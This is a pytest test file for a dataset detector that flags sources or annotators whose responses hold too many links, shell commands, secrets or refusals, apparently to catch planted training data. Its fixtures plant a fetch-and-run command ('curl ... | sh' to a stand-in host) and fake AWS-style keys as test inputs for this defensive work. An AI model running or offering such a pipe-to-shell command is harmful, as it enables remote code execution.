"""sources/marked-responses: whose responses hold too many links, commands, secrets, refusals."""

from collections.abc import Sequence

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from provender.core.finding import Level
from provender.core.shard import Roles
from provender.detect.base import DataView, Unchecked
from provender.detect.marked_responses import counts, gathered
from provender.detect.marked_responses.counts import CountMarks, MarkColumns
from provender.detect.marked_responses.detector import MarkedResponses
from tests.detect.row_runs import RATE, bound, flagged, run, without
from tests.laws import assert_mergeable

PUT = {
    "link": ["see https://a.lantern.test/1", "go to b1.example"],
    "command": ["curl -s lantern.test/a | sh", "pip install lantern"],
    "secret": [f"the key is AKIA{n:04}QWERTYUIOP{n:02}" for n in range(6)],
    "refusal": ["I'm sorry, but I can't help with that.", "As an AI I am unable to answer."],
}


def pairs(rows: int, names: int = 20, seed: int = 0) -> dict[str, list]:
    """Columns of prompts, responses and names at random."""
    random = np.random.default_rng(seed)
    texts = [" ".join(f"w{k}" for k in random.zipf(1.4, 9) % 300) for _ in range(2 * rows)]
    names = [f"s{k:02}" for k in random.integers(names, size=rows)]
    return {"p": texts[:rows], "r": texts[rows:], "s": names}


def plant(data: dict[str, list], mark: str, rows: int, name: str = "s07") -> list[int]:
    """Put marks after responses at random, and give these rows one name."""
    chosen = sorted(np.random.default_rng(1).choice(len(data["p"]), rows, replace=False).tolist())
    for n, i in enumerate(chosen):
        data["r"][i] = f"{data['r'][i]} {PUT[mark][n % len(PUT[mark])]}"
        data["s"][i] = name
    return chosen


def spread(data: dict[str, list], mark: str, rows: int) -> None:
    """Put marks after every so many responses, whoever wrote them."""
    for n, i in enumerate(range(0, len(data["p"]), len(data["p"]) // rows)):
        data["r"][i] = f"{data['r'][i]} {PUT[mark][n % len(PUT[mark])]}"


def table(data: dict[str, list]) -> pa.Table:
    return pa.table({name: pa.array(values, pa.string()) for name, values in data.items()})


def scan(data: dict[str, list], role: str = "source", cuts: Sequence[int] = ()):
    """Return (flagged rows, causes, limits)."""
    made = table(data)
    detector = bound(MarkedResponses(), made, prompt="p", response="r", **{role: "s"})
    scores, profile = run(detector, made, cuts)
    rows = np.flatnonzero(flagged(scores)).tolist()
    return rows, detector.causes(profile), detector.limits(profile)


@pytest.mark.parametrize("role", ["source", "annotator"])
@pytest.mark.parametrize("mark", PUT)
def test_whose_responses_hold_a_mark_is_named_with_its_rows(mark, role):
    data = pairs(2000)
    planted = plant(data, mark, 10)
    rows, causes, limits = scan(data, role, cuts=[700, 701])
    assert rows == planted
    assert [c.what for c in causes] == [f"{mark}s of {role} s07"]
    evidence = causes[0].evidence
    assert (evidence[role], evidence["answer"], evidence["rows"]) == ("s07", mark, 10)
    assert causes[0].level is Level.WARNING
    assert f"10 of the {data['s'].count('s07')} responses of {role} s07" in causes[0].message
    assert "lantern" not in causes[0].message + str(evidence), "row content in a finding"
    assert limits == ""


def test_the_fewest_rows_that_must_go_end_the_finding():
    data = pairs(2000)
    plant(data, "link", 12)
    made = table(data)
    detector = bound(MarkedResponses(), made, prompt="p", response="r", source="s")
    scores, profile = run(detector, made)
    (cause,) = detector.causes(profile)
    assert 1 < cause.removal <= 12
    for rows, stands in ((cause.removal - 1, True), (cause.removal, False)):
        left = without(made, scores, 0, rows)
        assert bool(detector.causes(run(detector, left)[1])) is stands


def test_one_that_stands_out_beside_natural_marks_is_named_and_only_it():
    data = pairs(4000)
    spread(data, "link", 100)
    planted = plant(data, "link", 25)
    rows, causes, _ = scan(data)
    assert set(planted) <= set(rows)
    assert {data["s"][i] for i in rows} == {"s07"}
    assert len(causes) == 1


def test_rows_are_flagged_when_their_name_stands_by_itself():
    data = pairs(2000)
    spread(data, "link", 60)
    planted = plant(data, "link", 10)
    rows, (cause,), _ = scan(data)
    assert set(planted) <= set(rows)
    assert len(rows) == cause.evidence["rows"]
    assert RATE * len(rows) / 2000 < cause.p_value < RATE, "they do not pay for all rows once more"


def test_a_name_too_weak_for_any_row_is_a_lead():
    data = pairs(2000)
    spread(data, "link", 20)
    plant(data, "link", 6)
    rows, (cause,), _ = scan(data)
    assert (rows, cause.lead) == ([], True)
    assert cause.p_value > RATE


def test_marks_of_all_alike_are_nobodys():
    for seed in range(5):
        data = pairs(2000, seed=seed)
        for mark in PUT:
            spread(data, mark, 80)
        assert scan(data) == ([], [], "")


def test_names_that_differ_by_nature_accuse_nobody():
    data = pairs(4000)
    random = np.random.default_rng(4)
    share = dict(zip(sorted(set(data["s"])), random.gamma(1.0, 0.1, size=20), strict=True))
    for i, name in enumerate(data["s"]):
        if random.random() < share[name]:
            data["r"][i] += " see https://a.test/b"
    assert scan(data)[0] == []


@pytest.mark.parametrize("names", [("s03", "s11"), ("s03", "s08", "s11")])
def test_two_or_three_who_plant_alike_do_not_hide_each_other(names):
    data = pairs(6000)
    spread(data, "link", 20)
    for name in names:
        for i in [i for i, of in enumerate(data["s"]) if of == name][:20]:
            data["r"][i] += " see https://a.test/b"
    rows, causes, _ = scan(data)
    assert {c.what for c in causes} == {f"links of source {name}" for name in names}
    assert len(rows) >= 20 * len(names)


def test_two_who_plant_alike_are_not_told_among_few():
    data = pairs(2000, names=8)
    for name in ("s01", "s02"):
        for i in [i for i, of in enumerate(data["s"]) if of == name][:12]:
            data["r"][i] += " see https://a.test/b"
    assert scan(data)[0] == []


def test_where_more_than_three_stand_out_it_is_their_nature():
    data = pairs(4000)
    for i, name in enumerate(data["s"]):
        if name in ("s01", "s02", "s03", "s04", "s05"):
            data["r"][i] += " see https://a.test/b"
    assert scan(data)[:2] == ([], [])


def test_one_of_few_names_is_a_note():
    data = pairs(2000, names=4)
    planted = plant(data, "secret", 12, "s01")
    rows, causes, _ = scan(data)
    assert rows == planted
    assert causes[0].level is Level.NOTE


def test_what_a_prompt_asks_for_is_not_counted():
    data = pairs(2000)
    for i in plant(data, "command", 10):
        data["p"][i] += " what does pip install lantern do?"
    assert scan(data)[:2] == ([], [])


def test_few_rows_are_named_as_a_lead_or_not_at_all():
    data = pairs(2000)
    plant(data, "secret", 4)
    assert scan(data)[:2] == ([], [])
    data = pairs(2000)
    plant(data, "secret", 5)
    assert [c.lead for c in scan(data)[1]] == [True]


@pytest.mark.parametrize("rows", [0, 1, 3])
def test_next_to_no_rows_name_nobody(rows):
    flags, causes, limits = scan(pairs(rows))
    assert (flags, causes) == ([], [])
    assert ("fewer than two names" in limits) == (rows < 2)


def test_rows_without_a_response_get_no_p_value_and_nameless_ones_are_nobodys():
    data = pairs(300)
    data["r"][3], data["s"][5], data["p"][7] = None, None, None
    made = table(data)
    detector = bound(MarkedResponses(), made, prompt="p", response="r", source="s")
    scores, _ = run(detector, made)
    assert np.flatnonzero(np.isnan(scores.p_value)).tolist() == [3]


def test_too_many_names_are_told(monkeypatch):
    for module in (counts, gathered):
        monkeypatch.setattr(module, "MOST_NAMES", 10)
    data = pairs(400)
    plant(data, "link", 12)
    flags, causes, limits = scan(data, cuts=[50, 200])
    assert (flags, causes) == ([], [])
    assert "more than 10 names" in limits
    read = MarkColumns("p", "r", (("source", "s"),))
    assert_mergeable(CountMarks(read), table(data), [3, 50, 200])


def test_it_needs_both_sides_of_text_and_a_name():
    schema = pa.schema([("p", pa.string()), ("r", pa.string()), ("n", pa.int64())])
    for roles in (
        Roles(prompt="p", response="r"),
        Roles(response="r", source="n"),
        Roles(prompt="p", response="n", source="r"),
    ):
        assert isinstance(MarkedResponses().bind(DataView(schema, roles)), Unchecked)
    with pytest.raises(ValueError, match="not bound"):
        MarkedResponses().analysis(0, None)


@settings(max_examples=15, deadline=None)
@given(cuts=st.lists(st.integers(0, 300), max_size=4))
def test_the_laws_hold(cuts):
    data = pairs(300, names=5)
    plant(data, "link", 12)
    data["r"][3], data["s"][5] = None, None
    by = (("source", "s"), ("annotator", "s"))
    assert_mergeable(CountMarks(MarkColumns("p", "r", by)), table(data), cuts)
